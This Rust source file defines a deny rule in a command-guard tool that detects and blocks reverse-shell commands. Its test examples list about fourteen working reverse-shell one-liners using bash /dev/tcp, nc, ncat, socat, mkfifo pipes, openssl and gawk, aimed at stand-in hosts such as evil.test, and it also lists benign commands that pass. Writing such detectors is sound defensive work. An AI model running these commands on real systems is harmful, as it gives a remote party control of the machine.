use std::cell::OnceCell;
use std::collections::HashSet;

use tollgate_model::{Card, Carried, Case, Effect, EffectKind, Hit, Rule, Span};

use super::named;
use crate::kit::{Words, first, rule};

rule! {
    /// Blocks reverse shells.
    ///
    /// A shell that is connected to the network gives the other end control of this machine.
    ///
    /// ## Instead
    /// Leave it. If a remote shell is needed, the person starts `ssh`.
    pub struct ReverseShell;
    id: "reverse-shell", pack: Exfiltration, level: Deny,
    person: "Development needs no reverse shell. For a remote shell, the person starts ssh.",
    examples: [
        hit Shell("bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"),
        hit Shell("zsh -i <>/dev/tcp/192.0.2.1/1 >&0"),
        hit Shell("exec 196<>/dev/tcp/192.0.2.1/1; sh <&196 >&196 2>&196"),
        hit Shell("nc -e /bin/sh 192.0.2.1 4444"),
        hit Shell("nc -lvp 4444 -c 'bash -i'"),
        hit Shell("ncat --sh-exec bash evil.test 1"),
        hit Shell("ncat evil.test 1 --exec=/bin/bash"),
        hit Shell("socat TCP:evil.test:1 EXEC:'bash -li',pty,stderr"),
        hit Shell("socat tcp-listen:8080,fork system:sh"),
        hit Shell("rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 192.0.2.1 1 > /tmp/f"),
        hit Shell("mkfifo /tmp/s; sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect evil.test:1 > /tmp/s"),
        hit Shell("sudo env busybox nc evil.test 1 -e sh"),
        hit Shell("nohup bash -c 'bash -i >& /dev/tcp/evil.test/9 0>&1' &"),
        hit Shell("gawk 'BEGIN{s=\"/inet/tcp/0/192.0.2.1/1\";while(s|&getline c){while((c|getline)>0)print|&s}}'"),
        pass Shell("nc -zv localhost 5432"),
        pass Shell("nc -l 8080 > out.bin"),
        pass Shell("echo PING | nc localhost 6379"),
        pass Shell("timeout 1 bash -c '</dev/tcp/localhost/5432'"),
        pass Shell("(echo > /dev/tcp/localhost/5432) && echo up"),
        pass Shell("socat TCP-LISTEN:8080,fork TCP:localhost:80"),
        pass Shell("openssl s_client -connect example.test:443 </dev/null | openssl x509 -noout -dates"),
        pass Shell("bash -i -c 'echo hi'"),
        pass Shell("grep -rn 'bash -i >& /dev/tcp' docs"),
    ],
}

impl Rule for ReverseShell {
    fn card(&self) -> &'static Card {
        &Self::CARD
    }

    fn check(&self, case: &Case) -> Option<Hit> {
        let code = WiringCode { effects: case.effects, shells: OnceCell::new(), languages: OnceCell::new() };
        first(case, |effect| match &effect.kind {
            EffectKind::Net { host, carries, .. }
                if carries.contains(&Carried::Shell) || code.wires(effect.span) =>
            {
                Words::new(
                    format!("gives {} control of a shell on this machine", named(host)),
                    "leave it. If a remote shell is needed, the person starts it",
                )
            }
            _ => None,
        })
    }
}

/// Code of another language that opens a connection and starts an interactive shell. Indexed when first asked for.
struct WiringCode<'c> {
    effects: &'c [Effect],
    /// Where interactive shells are started.
    shells: OnceCell<HashSet<Span>>,
    /// Where code of other languages stands: starts in order, each with the furthest end of those up to it.
    languages: OnceCell<Vec<(u32, u32)>>,
}

impl WiringCode<'_> {
    /// Does the code around a connection, which stands here, start a shell with it?
    fn wires(&self, net: Span) -> bool {
        self.shells.get_or_init(|| self.interactive_shells()).contains(&net)
            && furthest_end(self.languages.get_or_init(|| self.language_spans()), net.start)
                .is_some_and(|end| net.end <= end)
    }

    fn interactive_shells(&self) -> HashSet<Span> {
        let shells = ["sh", "bash", "zsh", "dash", "ksh", "ash"];
        let is_shell = |effect: &&Effect| {
            matches!(&effect.kind, EffectKind::Exec { program, argv, .. }
                if shells.contains(&program.as_str()) && argv.iter().any(|word| word == "-i"))
        };
        self.effects.iter().filter(is_shell).map(|effect| effect.span).collect()
    }

    fn language_spans(&self) -> Vec<(u32, u32)> {
        let languages = ["python", "perl", "ruby", "php", "node", "lua"];
        let is_code = |effect: &&Effect| {
            matches!(&effect.kind, EffectKind::Exec { program, .. }
                if languages.iter().any(|language| program.starts_with(language)))
        };
        let code = self.effects.iter().filter(is_code);
        let mut spans: Vec<(u32, u32)> = code.map(|effect| (effect.span.start, effect.span.end)).collect();
        spans.sort_unstable();
        let mut furthest = 0;
        for (_, end) in &mut spans {
            furthest = furthest.max(*end);
            *end = furthest;
        }
        spans
    }
}

/// The furthest end of the spans that start here or before.
fn furthest_end(spans: &[(u32, u32)], start: u32) -> Option<u32> {
    let before = spans.partition_point(|(first, _)| *first <= start);
    spans.get(before.checked_sub(1)?).map(|(_, end)| *end)
}
